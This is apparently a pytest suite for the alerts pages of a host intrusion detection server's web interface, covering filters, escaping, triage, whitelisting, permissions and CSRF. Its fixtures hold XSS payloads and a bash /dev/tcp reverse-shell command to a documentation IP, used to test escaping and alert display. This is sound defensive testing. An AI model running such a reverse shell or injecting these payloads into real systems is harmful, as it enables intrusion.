"""Alert pages: the list with filters and counts, one alert, triage, whitelist from alert, the
host page's section; every action as the API's alert routes do it, refused and audited the same way."""

from __future__ import annotations

import time

import pytest
from markupsafe import escape

from elkeid.server.detection import DetectionService

from ._client import Browser, add_agent, audit_entries, close_context, form, make_context

pytestmark = pytest.mark.anyio

SCRIPT = "<script>alert(1)</script>"
ATTR = '"><img src=x onerror=alert(1)>'
SHELL_ARGV = f"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1 {SCRIPT}"


@pytest.fixture
async def ctx(tmp_path):
    """A test context with the real detection service's rules loaded (not its tasks)."""
    context = make_context(tmp_path / "server")
    context.detection = DetectionService(context)
    await context.detection.rules.start()
    yield context
    close_context(context)


def record_alert(ctx, **over) -> dict:
    now = over.pop("now", time.time())
    base = {
        "dedup_key": f"k-{time.monotonic_ns()}", "rule_id": "reverse_shell_dev_tcp",
        "rule_name": "Reverse shell through /dev/tcp or /dev/udp", "severity": "critical", "rule_source": "default",
        "rule_kind": "detection", "description": f"shell {ATTR}", "attack": ["T1059.004", "TA0002", ATTR],
        "agent_id": "web-1", "hostname": "web-1", "data_type": 59,
        "event": {"data_type": 59, "agent_id": "web-1", "hostname": "web-1", "exe": "/usr/bin/bash", "pid": "990",
                  "ppid": "950", "argv": SHELL_ARGV, ATTR: "odd field name"},
        "fields": {}, "frequency": None, "first_seen": now, "last_seen": now, "count": 1, "status": "open",
        "process_chain": [
            {"pid": "990", "ppid": "950", "exe": "/usr/bin/bash", "argv": SHELL_ARGV, "comm": "bash", "username": "deploy",
             "source": "event"},
            {"pid": "950", "ppid": "1", "exe": "/usr/sbin/nginx", "argv": f"nginx {ATTR}", "comm": "nginx", "source": "execve"},
            {"pid": "1", "ppid": "0", "comm": "systemd", "source": "pid_tree"},
        ],
    }  # fmt: skip
    base.update(over)
    [stored] = ctx.store.record_alerts([base])
    return stored


async def logged_in(app, role: str) -> Browser:
    b = Browser(app)
    await b.login(role)
    return b


async def test_the_list_filters_counts_and_escapes(app, ctx):
    add_agent(ctx.store, "web-1", hostname="web-1")
    shell = record_alert(ctx)
    brute = record_alert(ctx, rule_id="ssh_bruteforce_single_source", rule_name="SSH brute force", severity="high",
                         agent_id="db-1", hostname=f"db-1 {SCRIPT}", event={"sip": "198.51.100.7"}, process_chain=[])  # fmt: skip
    ctx.store.set_alert_status(brute["id"], "open", "acknowledged", by="analyst")
    b = await logged_in(app, "viewer")
    page = await b.text(await b.get("/alerts"))
    assert f'data-alert="{shell["id"]}"' in page and f'data-alert="{brute["id"]}"' in page
    assert SCRIPT not in page and ATTR not in page and str(escape(SCRIPT)) in page
    assert 'data-live="alerts"' in page and 'data-fragment="alert-list"' in page
    assert 'data-count-status="open">open <b>1</b>' in page and 'data-count-status="acknowledged">acknowledged <b>1</b>' in page
    page = await b.text(await b.get("/alerts?severity=critical&status=open,acknowledged"))
    assert f'data-alert="{shell["id"]}"' in page and f'data-alert="{brute["id"]}"' not in page
    # Counts per status keep the severity filter; counts per severity keep the status filter.
    assert 'data-count-status="acknowledged">acknowledged <b>0</b>' in page
    assert 'data-count-severity="high"><span class="severity severity-high">high</span> <b>1</b>' in page
    page = await b.text(await b.get("/alerts?hostname=DB-1&rule_id=ssh_bruteforce_single_source"))
    assert f'data-alert="{brute["id"]}"' in page and f'data-alert="{shell["id"]}"' not in page
    page = await b.text(await b.get("/alerts?agent_id=web-1&q=203.0.113.5&since=2000-01-01T00:00&until=" +
                                    str(int(time.time()) + 60)))  # fmt: skip
    assert f'data-alert="{shell["id"]}"' in page and f'data-alert="{brute["id"]}"' not in page
    assert 'value="2000-01-01T00:00"' in page  # the form shows what it filters by
    page = await b.text(await b.get("/alerts?since=2099-01-01T00:00"))
    assert "No alert matches these filters." in page


@pytest.mark.parametrize("query, message", [
    ("severity=urgent", "unknown severity &#39;urgent&#39;"),
    ("status=closed", "unknown status &#39;closed&#39;"),
    ("since=yesterday", "since &#39;yesterday&#39; is not a date and time"),
    ("since=2026-01-02T00:00&until=2026-01-01T00:00", "since (2026-01-02T00:00) is after until"),
    ("page=0", "page &#39;0&#39; must be a whole number"),
    ("agent_id=../etc", "is not valid"),
    ("q=" + "x" * 300, "longer than 256 characters"),
])  # fmt: skip
async def test_bad_filters_are_a_400_that_says_why(app, ctx, query, message):
    b = await logged_in(app, "viewer")
    r = await b.get(f"/alerts?{query}")
    assert r.status_code == 400
    assert message in await b.text(r)


async def test_one_alert_in_full(app, ctx):
    a = record_alert(ctx)
    b = await logged_in(app, "viewer")
    page = await b.text(await b.get(f"/alerts/{a['id']}"))
    assert "Reverse shell through /dev/tcp or /dev/udp" in page and '<a class="hostname" href="/hosts/web-1">' in page
    assert 'href="https://attack.mitre.org/techniques/T1059/004/"' in page
    assert 'href="https://attack.mitre.org/tactics/TA0002/"' in page
    assert SCRIPT not in page and ATTR not in page and str(escape(SHELL_ARGV)) in page
    assert f'<tr data-field="{escape(ATTR)}"><th>{escape(ATTR)}</th>' in page  # even a field's name is data
    # The tree: systemd, then nginx, then the shell that triggered it, each nested in its parent.
    tree = page[page.index('class="process-tree"'):page.index('id="event"')]
    assert tree.index('data-pid="1"') < tree.index('data-pid="950"') < tree.index('data-pid="990"')
    assert tree.count("<ul>") == tree.count("</ul>") == 3 and 'class="proc trigger" data-pid="990"' in tree
    assert "from only its pid and name were known" in tree and "deploy" in tree
    assert "No one has triaged this alert yet." in page
    assert 'data-alert-id="{}"'.format(a["id"]) in page and 'data-fragment="alert-facts"' in page
    assert (await b.get("/alerts/999999")).status_code == 404
    assert (await b.get("/alerts/99999999999999999999")).status_code == 404


async def test_triage_acknowledge_then_resolve_with_comments(app, ctx):
    a = record_alert(ctx)
    b = await logged_in(app, "analyst")
    page = await b.text(await b.get(f"/alerts/{a['id']}"))
    assert 'value="acknowledged"' in page and 'value="false_positive"' in page and 'value="open" class' not in page
    r = await b.post(f"/alerts/{a['id']}/status", form(b.csrf, status="acknowledged", comment="looking", **{"from": "open"}))
    assert r.status_code == 302 and r.location == f"/alerts/{a['id']}?done=status#triage"
    r = await b.post(f"/alerts/{a['id']}/status", form(b.csrf, status="resolved", comment=f"done {SCRIPT}",
                                                        **{"from": "acknowledged"}))  # fmt: skip
    assert r.status_code == 302
    page = await b.text(await b.get(f"/alerts/{a['id']}?done=status"))
    assert "The alert&#39;s status is changed." in page
    history = page[page.index('id="history"'):page.index('id="triage"')]
    assert history.index("looking") < history.index(str(escape(f"done {SCRIPT}")))
    assert history.count('<td class="who">analyst</td>') == 2 and SCRIPT not in page
    assert 'value="open"' in page and 'value="acknowledged"' not in page  # resolved: only re-open
    [resolved, acked] = [e for e in audit_entries(ctx.store, username="analyst") if e["action"] == "alerts.change_status"]
    assert (acked["outcome"], acked["target"], acked["detail"]) == ("ok", str(a["id"]), {"from": "open", "to": "acknowledged"})
    assert (resolved["method"], resolved["path"]) == ("POST", f"/alerts/{a['id']}/status")


async def test_conflicts_are_shown_beside_the_form(app, ctx):
    a = record_alert(ctx)
    b = await logged_in(app, "analyst")
    ctx.store.set_alert_status(a["id"], "open", "resolved", by="admin", comment="closed elsewhere")
    # The page showed "open"; someone resolved it meanwhile.
    r = await b.post(f"/alerts/{a['id']}/status", form(b.csrf, status="acknowledged", comment="mine", **{"from": "open"}))
    assert r.status_code == 409
    page = await b.text(r)
    assert "Refused (409): this alert is resolved now, not open as your page showed" in page
    assert ">mine</textarea>" in page  # the comment is kept
    # A step the rules do not allow is the API's 409.
    r = await b.post(f"/alerts/{a['id']}/status", form(b.csrf, status="acknowledged", **{"from": "resolved"}))
    assert r.status_code == 409
    assert "an alert that is resolved can go to open, not acknowledged" in await b.text(r)
    r = await b.post(f"/alerts/{a['id']}/status", form(b.csrf, status="closed"))
    assert r.status_code == 400 and "must be one of" in await b.text(r)
    r = await b.post(f"/alerts/{a['id']}/status", form(b.csrf, status="open", comment="x" * 5000))
    assert r.status_code == 400
    assert ctx.store.get_alert(a["id"])["status"] == "resolved"
    outcomes = [e["status"] for e in audit_entries(ctx.store, username="analyst", action="alerts.change_status")]
    assert outcomes == [400, 400, 409, 409]


async def test_viewers_see_no_forms_and_are_refused(app, ctx):
    a = record_alert(ctx)
    b = await logged_in(app, "viewer")
    page = await b.text(await b.get(f"/alerts/{a['id']}"))
    assert 'id="triage"' not in page and 'id="whitelist"' not in page and "<textarea" not in page
    r = await b.post(f"/alerts/{a['id']}/status", form(b.csrf, status="acknowledged"))
    assert r.status_code == 403 and "it needs analyst or higher" in await b.text(r)
    r = await b.post(f"/alerts/{a['id']}/whitelist", form(b.csrf, field="exe"))
    assert r.status_code == 403
    assert ctx.store.get_alert(a["id"])["status"] == "open"
    assert [e["status"] for e in audit_entries(ctx.store, username="viewer") if e["action"].startswith("alerts.")] == [403, 403]


async def test_csrf_is_required(app, ctx):
    a = record_alert(ctx)
    b = await logged_in(app, "analyst")
    r = await b.post(f"/alerts/{a['id']}/status", {"status": "acknowledged"})
    assert r.status_code == 403 and "CSRF" in await b.text(r)
    r = await b.post(f"/alerts/{a['id']}/whitelist", {"csrf_token": "forged", "field": "exe"})
    assert r.status_code == 403
    assert ctx.store.get_alert(a["id"])["status"] == "open"


async def test_whitelist_from_alert(app, ctx):
    a = record_alert(ctx)
    b = await logged_in(app, "analyst")
    page = await b.text(await b.get(f"/alerts/{a['id']}"))
    assert 'name="field" value="exe"' in page and 'name="field" value="argv"' in page
    assert 'name="field" value="agent_id"' not in page and f'value="{escape(ATTR)}"' not in page
    # Every host with no field: refused by the API, the form keeps what was chosen.
    r = await b.post(f"/alerts/{a['id']}/whitelist", form(b.csrf, scope="all", comment="too broad", **{"from": "open"}))
    assert r.status_code == 400
    page = await b.text(r)
    assert "Refused (400)" in page and "needs at least one field" in page and ">too broad</textarea>" in page
    r = await b.post(f"/alerts/{a['id']}/whitelist", form(b.csrf, ("field", "nosuch"), **{"from": "open"}))
    assert r.status_code == 400 and "is not in the alert" in await b.text(r)
    r = await b.post(f"/alerts/{a['id']}/whitelist", form(b.csrf, ("field", "exe"), ("field", "argv"), scope="host",
                                                           also="false_positive", comment="backup job",
                                                           **{"from": "open"}))  # fmt: skip
    assert r.status_code == 302
    assert r.location.startswith(f"/alerts/{a['id']}?done=whitelisted&wl=wl.reverse_shell_dev_tcp.")
    page = await b.text(await b.get(r.location.split("#")[0]))  # a browser does not send the fragment
    assert "The whitelist is in force." in page and "false positive" in page and "backup job" in page
    assert "Whitelist <code>wl.reverse_shell_dev_tcp." in page
    page = await b.text(await b.get(f"/alerts/{a['id']}?done=whitelisted&wl=all+alerts+are+fine"))
    assert "Whitelist <code>" not in page  # a crafted link cannot make the page say more
    wl = [w for w in ctx.detection.rules.rule_list() if w["id"].startswith("wl.reverse_shell_dev_tcp.")]
    assert len(wl) == 1
    [entry] = [e for e in audit_entries(ctx.store, username="analyst") if e["action"] == "alerts.whitelist" and e["status"] == 302]
    assert entry["detail"]["fields"] == ["exe", "argv"] and entry["detail"]["scope"] == "host"


async def test_the_host_page_lists_its_alerts(app, ctx):
    add_agent(ctx.store, "web-1", hostname="web-1")
    add_agent(ctx.store, "quiet-1", hostname="quiet-1")
    first = record_alert(ctx)
    record_alert(ctx, hostname=f"web-1 {SCRIPT}")
    ctx.store.set_alert_status(first["id"], "open", "resolved", by="admin")
    b = await logged_in(app, "viewer")
    page = await b.text(await b.get("/hosts/web-1"))
    section = page[page.index('<section id="alerts">'):]
    section = section[:section.index("</section>")]
    assert "2 alerts, 1 open or acknowledged." in section and 'href="/alerts?agent_id=web-1"' in section
    assert section.count("<tr data-alert=") == 2 and SCRIPT not in section
    assert "unavailable-note" not in section
    page = await b.text(await b.get("/hosts/quiet-1"))
    assert "No alert on this host." in page


async def test_the_nav_links_the_alerts_page(app, ctx):
    b = await logged_in(app, "viewer")
    page = await b.text(await b.get("/alerts"))
    assert '<a href="/alerts" class="active" aria-current="page">Alerts</a>' in page


async def test_the_list_is_paged(app, ctx):
    now = time.time()
    for i in range(51):
        record_alert(ctx, dedup_key=f"page-{i}", now=now + i, severity="low")
    b = await logged_in(app, "viewer")
    page = await b.text(await b.get("/alerts?severity=low"))
    assert page.count("<tr data-alert=") == 50 and "page 1 of 2" in page
    assert 'href="/alerts?severity=low&amp;page=2" rel="next"' in page
    page = await b.text(await b.get("/alerts?severity=low&page=2"))
    assert page.count("<tr data-alert=") == 1 and 'rel="prev"' in page
